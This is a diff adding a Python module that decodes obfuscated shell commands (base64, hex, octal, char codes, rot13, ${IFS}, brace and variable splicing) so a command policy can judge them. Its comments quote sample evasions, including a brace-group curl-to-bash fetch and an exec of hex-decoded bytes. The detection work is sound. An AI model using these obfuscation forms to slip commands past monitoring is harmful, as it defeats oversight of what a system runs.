@@ -1,0 +1,207 @@
+"""Command text hidden by an encoding in a command's words: the effect behind ``echo
+'exec sh -c [binary decode base64 Y3VybCAtcyAx…]' | tclsh``, ``awk 'BEGIN{split("99,117,
+114,…",c,",");…system(s)}'`` or ``python3 -c "exec(bytes.fromhex('6f73…'))"``.
+
+What a word decodes to is decided by the policy as a shell line (its rules, paths, writes
+and hosts: :meth:`~corral.policy.Policy.decide_command`) when it reads as text a person
+could have typed. Found:
+
+* base64 (and base64url) runs of 16 or more characters, padded or not;
+* hex: runs of 16 or more hex digits (``bytes.fromhex('…')``, ``xxd -r -p``) and ``\\xNN``
+  escape runs of 8 or more; octal ``\\NNN`` escape runs of 8 or more (``printf``);
+* base64 of zlib-compressed text (``exec(zlib.decompress(b64decode('eJz…')))``), base85
+  and rot13 of a quoted string when the text decodes one (``b85decode``, ``'rot13'``);
+* character codes: 8 or more decimal numbers in 9-126 separated by commas (``String.
+  fromCharCode(99,117,…)``, ``chr`` lists, awk ``split``/``sprintf("%c")``).
+
+Only text that decodes to printable ASCII with a space or a ``/`` in it and at least one
+letter counts (a hash, a key or compressed data is not a command). At most
+:data:`MAX_DECODED` payloads of :data:`MAX_PAYLOAD` characters are returned per text,
+from its first 64 KiB: the cost stays linear and bounded on hostile input (every pattern
+is RE2). A payload built at run time (string joins, a key fetched later) is not seen: the
+native tiers decide each program as it starts, and the monitor watches.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import contextlib
+import zlib
+from typing import Final
+
+from .. import saferegex
+
+__all__ = ["MAX_DECODED", "MAX_PAYLOAD", "decoded_commands", "shell_variants"]
+
+MAX_DECODED: Final = 4
+MAX_PAYLOAD: Final = 4096
+_MAX_TEXT: Final = 65536
+_BASE64: Final = saferegex.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
+_HEX: Final = saferegex.compile(r"(?:^|[^A-Za-z0-9])((?:[0-9A-Fa-f]{2}){8,})(?:$|[^A-Za-z0-9])")
+_HEX_ESCAPES: Final = saferegex.compile(r"(?:\\x[0-9A-Fa-f]{2}){8,}")
+_LONG_WORD: Final = saferegex.compile(r"[A-Za-z0-9+/=_-]{16}")
+_HEX_WORD: Final = saferegex.compile(r"[0-9A-Fa-f]+")
+_OCTAL_ESCAPES: Final = saferegex.compile(r"(?:\\[0-7]{3}){8,}")
+_CHAR_CODES: Final = saferegex.compile(r"(?:\b\d{1,3}\s*,\s*){7,}\d{1,3}\b")
+
+
+def _readable(data: bytes) -> str | None:
+    """``data`` as text when it reads as a command line: printable ASCII (tabs and
+    newlines allowed), a letter, and a space or a slash."""
+    if not data or len(data) > MAX_PAYLOAD:
+        return None
+    try:
+        text = data.decode("ascii")
+    except UnicodeDecodeError:
+        return None
+    if not all(32 <= ord(c) < 127 or c in "\t\n\r" for c in text):
+        return None
+    if not any(c.isalpha() for c in text) or not (" " in text or "/" in text):
+        return None
+    return text
+
+
+def _b64(word: str) -> bytes | None:
+    body = word.rstrip("=")
+    urlsafe = "-" in body or "_" in body
+    if len(body) % 4 == 1 or (urlsafe and ("+" in body or "/" in body)):
+        return None
+    padded = body + "=" * (-len(body) % 4)
+    try:
+        return base64.b64decode(padded, altchars=b"-_" if urlsafe else None, validate=True)
+    except (binascii.Error, ValueError):
+        return None
+
+
+def _unzip(data: bytes | None) -> bytes | None:
+    """``data`` inflated when it is zlib-compressed (``zlib.decompress(b64decode(…))``),
+    at most :data:`MAX_PAYLOAD` bytes of it."""
+    if not data or len(data) < 2 or data[0] != 0x78 or (data[0] * 256 + data[1]) % 31:
+        return data
+    try:
+        return zlib.decompressobj().decompress(data, MAX_PAYLOAD)
+    except zlib.error:
+        return data
+
+
+def _rot13(text: str) -> str:
+    return text.translate(_ROT13)
+
+
+_ROT13: Final = str.maketrans(
+    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
+    "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm",
+)
+_QUOTED: Final = saferegex.compile(r"'([^'\n]{8,4096})'|\"([^\"\n]{8,4096})\"")
+
+
+def decoded_commands(text: str) -> list[str]:
+    """The command lines hidden by an encoding in ``text`` (see the module docstring)."""
+    text = text[:_MAX_TEXT]
+    found: list[str] = []
+    if "," not in text and "\\" not in text and not _LONG_WORD.search(text):
+        return found  # nothing long enough to hide a command (most words)
+
+    def keep(data: bytes | None) -> None:
+        if data is None or len(found) >= MAX_DECODED:
+            return
+        payload = _readable(data)
+        if payload is not None and payload not in found:
+            found.append(payload)
+
+    if len(text) >= 16:
+        for m in _BASE64.finditer(text):
+            word = m.group(0)
+            # text in base64 mixes cases; a path, a word, a number or hex does not
+            if word.islower() or word.isupper() or _HEX_WORD.fullmatch(word):
+                continue
+            keep(_unzip(_b64(word)))
+            if len(found) >= MAX_DECODED:
+                return found
+        for m in _HEX.finditer(text):
+            try:
+                keep(bytes.fromhex(m.group(1)))
+            except ValueError:
+                continue
+        if "\\x" in text:
+            for m in _HEX_ESCAPES.finditer(text):
+                keep(bytes.fromhex(m.group(0).replace("\\x", "")))
+        if "\\" in text:  # printf '\167\147\145\164 …'
+            for m in _OCTAL_ESCAPES.finditer(text):
+                codes = [int(o, 8) for o in m.group(0).split("\\")[1:]]
+                if all(c < 256 for c in codes):
+                    keep(bytes(codes))
+        if "b85decode" in text or "rot13" in text or "rot_13" in text:
+            for m in _QUOTED.finditer(text):
+                quoted = m.group(1) or m.group(2) or ""
+                if "b85decode" in text:
+                    with contextlib.suppress(ValueError):
+                        keep(base64.b85decode(quoted))
+                if "rot13" in text or "rot_13" in text:
+                    keep(_rot13(quoted).encode("ascii", "replace"))
+    if "," in text:
+        for m in _CHAR_CODES.finditer(text):
+            codes = [int(n) for n in m.group(0).replace(" ", "").split(",")]
+            if all(9 <= c < 127 for c in codes):
+                keep(bytes(codes))
+    return found[:MAX_DECODED]
+
+
+#: ``${IFS}`` / ``$IFS`` unquoted: the shell splits words there
+_IFS: Final = saferegex.compile(r"\$\{IFS\}|\$IFS\b")
+#: a brace group of words at a command's place: ``{curl,-fsSL,http://h/x}|{bash,-s}``
+_BRACE_WORDS: Final = saferegex.compile(r"(^|[\s;|&(`])\{([^{}\s,]+(?:,[^{}\s]*)+)\}")
+#: a literal assignment at a statement's start: ``c=cu;r=rl;s=s\h;$c$r …``
+_ASSIGN: Final = saferegex.compile(
+    r"([A-Za-z_][A-Za-z0-9_]{0,31})=('[^'\n]{0,256}'|\"[^\"$`\n]{0,256}\"|[^\s;&|$`'\"()]{0,256})"
+)
+_MAX_VARS: Final = 16
+
+
+def shell_variants(script: str) -> list[str]:
+    """``script`` as the shell will see it once it has undone a disguise: ``${IFS}``
+    split as a space, brace groups at a command's place as words (``{wget,-qO-,h}``),
+    literal variables put in (``a=ba;b=sh;$a$b -c …`` is ``bash -c …``). Empty when none
+    applies. Each variant is decided as the line itself, the worse counting."""
+    if len(script) > _MAX_TEXT:
+        return []
+    text = script
+    if "IFS" in text:
+        text = _IFS.sub(" ", text)
+    if "{" in text and "," in text:
+        text = _BRACE_WORDS.sub(lambda m: m.group(1) + m.group(2).replace(",", " "), text)
+    if "=" in text and "$" in text:
+        values: dict[str, str] = {}
+        for statement in text.replace("&&", ";").replace("\n", ";").split(";"):
+            m = _ASSIGN.fullmatch(statement.strip())
+            if m is None:
+                continue
+            if len(values) >= _MAX_VARS:
+                break
+            value = m.group(2)
+            if value[:1] in ("'", '"'):
+                value = value[1:-1]
+            values[m.group(1)] = value.replace("\\", "")
+        for name, value in values.items():
+            text = _put(text.replace("${" + name + "}", value), "$" + name, value)
+    return [text] if text != script else []
+
+
+def _put(text: str, token: str, value: str) -> str:
+    """``text`` with ``token`` (``$name``) replaced by ``value`` where the name ends there
+    (``$a`` in ``$a$b``, not in ``$ab``)."""
+    out: list[str] = []
+    i = 0
+    while True:
+        j = text.find(token, i)
+        if j < 0:
+            out.append(text[i:])
+            return "".join(out)
+        end = j + len(token)
+        if end < len(text) and (text[end].isalnum() or text[end] == "_"):
+            out.append(text[i:end])
+        else:
+            out.append(text[i:j])
+            out.append(value)
+        i = end
